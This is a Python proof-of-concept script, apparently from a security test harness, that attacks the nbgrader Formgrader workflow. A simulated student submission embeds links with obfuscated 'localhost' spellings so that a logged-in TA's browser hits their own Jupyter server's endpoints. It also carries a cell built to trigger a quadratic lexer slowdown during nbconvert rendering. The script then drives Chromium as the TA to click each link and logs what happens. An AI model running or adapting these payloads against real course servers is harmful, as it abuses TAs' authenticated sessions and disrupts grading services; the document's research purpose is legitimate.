"""a01b: a01's spellings through the real grading, then clicked in Formgrader's page of mallory's submission (JupyterLab
on the course with the course's config, the TA logged in by token cookie, Chromium). Each cheap link goes to the TA's
server's /api/status?v=<spelling>; one (tab spelling) goes to /nbconvert/html/submitted/mallory/... of the raw hand-in
holding round 42's quadratic-lexer cell (IPython lexer on "\\n " x REP), as round 42's user a03 did with localhost."""
import json, os, sys, time, tempfile, urllib.request, re
sys.path.insert(0, __import__("os").path.dirname(__import__("os").path.abspath(__file__)))
from harness import *
from tests import browser
from playwright.sync_api import sync_playwright
A = "ps1_memory"; REP = int(os.environ.get("REP", "10000"))
PORT = 8953
spell = {"tab": "local&#9;host", "lf": "local&#10;host", "fullwidth": "\uff4c\uff4f\uff43\uff41\uff4c\uff48\uff4f\uff53\uff54",
         "ideo_dots": "127\u30020\u30020\u30021", "hostname_vm": "vm", "circled": "\u24dbocalhost", "localhost_ctrl": "localhost"}
links = "".join(f'<a href="http://{h}:{PORT}/api/status?v={k}">{k}</a> ' for k, h in spell.items())
conv = f'<a href="http://local&#9;host:{PORT}/nbconvert/html/submitted/mallory/{A}/{A}.ipynb?download=false">derivation</a>'
m = nb_for(A, {"written_ddp_fit": "DDP replicates everything, so it does not fit. " + links + conv})
m.cells.insert(len(m.cells) - 1, nbformat.v4.new_code_cell("\n " * REP))
m.metadata["language_info"] = {"name": "python", "pygments_lexer": "ipython3"}
d = course("a01b")
for s, nb in (("aaron", nb_for(A)), ("mallory", m), ("zoe", nb_for(A))):
    hand_in(d, s, A, nb)
grade(d, A); scores(d, A)
g = open(f"{d}/autograded/mallory/{A}/{A}.ipynb").read(); f = open(f"{d}/feedback/mallory/{A}/{A}.html").read()
for k in list(spell) + ["nbconvert"]:
    key = f"v={k}" if k != "nbconvert" else "nbconvert/html"
    print(f"{k:15s} in graded notebook: {key in g}   in feedback page: {key in f}")
work = tempfile.mkdtemp(prefix="attack43-root-lab-", dir="/tmp")
browser.free_port = lambda: PORT  # the page was graded for this port
with browser.jupyter_lab(d, work) as (url, token):
    url = url.replace("127.0.0.1", "localhost")  # jupyter lab opens the TA's browser at http://localhost:<port>/lab?token=...
    print("TA server at", url)
    h = {"Authorization": f"token {token}"}
    def get(path):
        with urllib.request.urlopen(urllib.request.Request(url + path, headers=h), timeout=600) as r:
            return r.read().decode()
    subs = json.loads(get(f"/formgrader/api/submitted_notebooks/{A}/{A}"))
    ids = {s["student"]: s["id"] for s in subs}
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium", args=browser.CHROMIUM_ARGS)
        ctx = b.new_context(viewport={"width": 1280, "height": 800})
        pg = ctx.new_page()
        pg.goto(f"{url}/lab?token={token}", timeout=120000)  # the TA is logged in (cookie)
        fg = f"{url}/formgrader/submissions/{ids['mallory']}/?index=0"
        for k in list(spell) + ["nbconvert"]:
            pg.goto(fg, timeout=120000)
            sel = f'a[href*="v={k}"]' if k != "nbconvert" else 'a[href*="nbconvert"]'
            n = pg.locator(sel).count()
            if not n:
                print(f"{k:15s} no such link in Formgrader's page"); continue
            href = pg.locator(sel).first.evaluate("a => a.href")
            t = time.time()
            try:
                with pg.expect_navigation(timeout=600000):
                    pg.locator(sel).first.click()
                body = pg.content()
                print(f"{k:15s} clicked: href={href!r} -> {pg.url[:90]} in {time.time()-t:.1f}s; body {len(body)} chars: {re.sub(r'<[^>]+>', '', body)[:100]!r}")
            except Exception as e:
                print(f"{k:15s} clicked: href={href!r} -> {type(e).__name__} {str(e)[:150]} after {time.time()-t:.1f}s")
        b.close()
shutil.rmtree(work, ignore_errors=True)
